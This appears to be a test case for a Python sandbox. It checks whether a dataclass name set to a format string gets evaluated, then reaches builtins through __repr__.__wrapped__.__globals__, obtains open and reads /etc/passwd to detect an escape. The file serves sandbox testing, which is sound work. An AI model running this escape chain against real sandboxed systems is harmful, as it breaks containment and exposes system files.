# tries: the name of a class is text in its printer
# class: dataclass
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import dataclasses


@dataclasses.dataclass
class C:
    x: int = 0


C.__qualname__ = "{self.__class__.__repr__.__globals__}"
text = repr(C())
print("REACHED" if "builtins" in text else "")
use(dig(C.__repr__.__wrapped__.__globals__))
